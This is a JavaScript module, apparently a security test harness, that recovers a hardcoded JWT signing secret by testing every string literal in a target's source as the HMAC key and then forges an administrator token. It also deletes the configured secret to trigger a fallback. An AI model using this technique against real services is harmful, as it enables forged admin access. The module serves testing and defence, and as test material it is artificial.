// Reads the source, and writes a token for the administrator.

import assert from "node:assert/strict";
import { createHmac, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";

const encode = (value) => Buffer.from(value).toString("base64url");
const mac = (text, key) => createHmac("sha256", key).update(text).digest("base64url");

// As much of jsonwebtoken as the snippet uses: HS256.
function sign(payload, key) {
  const text = `${encode('{"alg":"HS256","typ":"JWT"}')}.${encode(JSON.stringify(payload))}`;
  return `${text}.${mac(text, key)}`;
}

export const standIns = { jsonwebtoken: { sign } };

export function prepare() {
  process.env.APP_SECRET = randomBytes(16).toString("hex");
}

const login = async (code, ask) =>
  JSON.parse((await ask(code.default, "/tokens", { method: "POST" })).text).token;

// The text in the source that the server's own signature fits is the key.
export async function attack(code, { ask, file }) {
  const token = await login(code, ask);
  const [header, payload, signature] = token.split(".");
  for (const [, text] of readFileSync(file, "utf8").matchAll(/"([^"\n]+)"/g)) {
    if (mac(`${header}.${payload}`, text) === signature) {
      const forged = sign({ sub: "admin" }, text);
      assert.equal(forged.split(".")[0], header);
      return Buffer.from(forged.split(".")[1], "base64url").toString();
    }
  }
  return null;
}

// Where the setting was forgotten.
export function bypass(code, tools) {
  delete process.env.APP_SECRET;
  return attack(code, tools);
}

export async function use(code, { ask }) {
  const [, payload] = (await login(code, ask)).split(".");
  assert.equal(JSON.parse(Buffer.from(payload, "base64url").toString()).sub, "ada");
}
